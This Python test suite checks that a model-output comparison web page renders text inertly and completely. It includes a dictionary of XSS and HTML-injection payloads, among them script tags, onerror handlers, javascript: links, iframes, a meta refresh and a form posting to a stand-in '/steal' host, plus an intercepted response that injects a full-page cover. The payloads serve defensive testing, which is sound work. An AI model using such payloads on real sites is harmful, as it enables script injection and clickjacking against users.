"""What models write is shown whole, does nothing, and covers nothing."""

from __future__ import annotations

from typing import Any

import pytest
from browsing import pair, press, saved

ELSEWHERE = "https://elsewhere.example"
ATTACKS = {
    "script": "<script>alert('s1')</script> after-script",
    "image": f"<img src=x onerror=\"alert('i1')\"> ![beacon]({ELSEWHERE}/b.png) after-image",
    "svg": "<svg onload=alert(1)><style><img src=x onerror=alert(2)></style></svg> after-svg",
    "form": f'<form action="{ELSEWHERE}/steal"><input name=q><button>Send</button></form> after-form',
    "cover": '<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div> after-cover',
    "link": '[click](javascript:alert(3)) <a href="javascript:alert(4)">here</a> after-link',
    "frame": f'<iframe src="{ELSEWHERE}"></iframe><object data="{ELSEWHERE}"></object> after-frame',
    "style": f"<style>* {{ display: none }} @import url({ELSEWHERE}/x.css);</style> after-style",
    "meta": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}"><base href="{ELSEWHERE}/"> after-meta',
    "identifier": '<p id="work">x</p><dialog open>y</dialog> after-identifier',
}
ON_TOP = """(selector) => [...document.querySelectorAll(selector)].filter((button) => {
    const { left, top, width, height } = button.getBoundingClientRect();
    const hit = document.elementFromPoint(left + width / 2, top + height / 2);
    return !(hit && button.contains(hit));
}).map((button) => button.outerHTML)"""


def test_hostile_text_is_inert_and_whole(site):
    tasks = [pair(number, first=text, second=f"tame {name}") for number, (name, text) in enumerate(ATTACKS.items())]
    place = site(tasks)
    page = place.open()
    for _ in ATTACKS:
        page.wait_for_selector(".bar")
        shown = page.locator(".columns").inner_text()
        name = next(name for name in ATTACKS if f"tame {name}" in shown)
        assert f"after-{name}" in shown
        assert page.evaluate(ON_TOP, ".bar button") == []
        reached = page.locator(".text :is(script, img, svg, form, iframe, object, style, meta, base, dialog)").count()
        assert (name, reached) == (name, 0)
        press(page, "r")
        raw = page.locator(".columns .text.raw").all_inner_texts()
        assert ATTACKS[name] in raw
        press(page, "r", "1", "Enter")
    page.wait_for_selector(".ending")
    saved(page)
    assert len(place.labels()) == len(ATTACKS)


def test_even_unsafe_html_could_not_leave_its_frame(site):
    """The frame holds where the renderer would not: what the server sends is replaced by an element over everything."""
    place = site([pair(0)])
    context = place.context()
    cover = '<div style="position:fixed;inset:-2000px;z-index:2147483647;background:red">cover</div>'

    def replace(route: Any) -> None:
        answer = route.fetch()
        body = answer.json()
        for view in body["items"]:
            view["a"]["html"] = cover
        route.fulfill(response=answer, json=body)

    context.route("**/api/next", replace)
    page = place.open(context)
    assert page.evaluate(ON_TOP, ".bar button, .head nav button") == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<think>hidden thought</think>the answer", ("hidden thought", "the answer")),
        ("Use `List<int>` and List<int> where a < b", ("List<int>", "where a < b")),
        ("It costs $5 and then $7, not \\$9.", ("$5 and then $7", "$9")),
        ("408.", ("408",)),
        (
            "line one\nline two\n\n```python\nif x:\n\treturn 1\n```\n\n- a\n- b",
            ("line one", "line two", "return 1", "b"),
        ),
        ("a\u202eb right-to-left override", ("right-to-left override",)),
        ("\\frac{", ("\\frac{",)),
    ],
)
def test_nothing_is_left_out(site, text, expected):
    place = site([pair(0, first=text, second="x")])
    page = place.open()
    page.evaluate("document.querySelectorAll('details').forEach((details) => (details.open = true))")
    shown = page.locator(".columns").inner_text()
    markers = page.evaluate("[...document.querySelectorAll('.columns li')].map((item) => String(item.value)).join(' ')")
    assert [part for part in expected if part not in f"{shown} {markers}"] == []
    outside = """() => [...document.querySelectorAll('.columns .text')].filter((text) =>
        text.scrollWidth > text.clientWidth + 1).length"""
    assert page.evaluate(outside) == 0


def test_a_number_that_reads_as_a_list_has_room(site):
    place = site([pair(0, first="408.", second="4. is it")])
    page = place.open()
    room = page.eval_on_selector_all(
        ".columns ol",
        """(lists) => lists.map((list) =>
            [list.firstElementChild.value, parseFloat(getComputedStyle(list).paddingLeft)])""",
    )
    digit = 16 * 0.5  # a font has digits of about half its size
    assert {number: pixels > digit * len(f"{number}. ") for number, pixels in room} == {408: True, 4: True}
    assert dict(room)[408] > dict(room)[4]


def test_formulas_are_drawn_with_all_four_delimiters(site):
    place = site([pair(0, first="\\(a^2\\) and \\[b^2\\] and $c^2$ and $$d^2$$", second="$x$")])
    page = place.open()
    assert page.locator(".columns math").count() == 5
    press(page, "r")
    assert page.locator(".columns math").count() == 0


def test_arabic_reads_from_the_right_and_its_list_has_its_numbers_inside(site):
    text = "السماء زرقاء.\n\n1. ضوء قصير\n\n2. ضوء طويل"
    place = site([pair(0, first=text, second="English text.\n\n1. one\n2. two")])
    page = place.open()
    found = page.evaluate(
        """() => Object.fromEntries([...document.querySelectorAll('.columns .text')].map((text) => {
            const list = text.querySelector('ol');
            const style = getComputedStyle(list);
            const room = parseFloat(style.direction === 'rtl' ? style.paddingRight : style.paddingLeft);
            return [getComputedStyle(text.querySelector('p')).direction, [style.direction, room > 20]];
        }))"""
    )
    assert found == {"rtl": ["rtl", True], "ltr": ["ltr", True]}
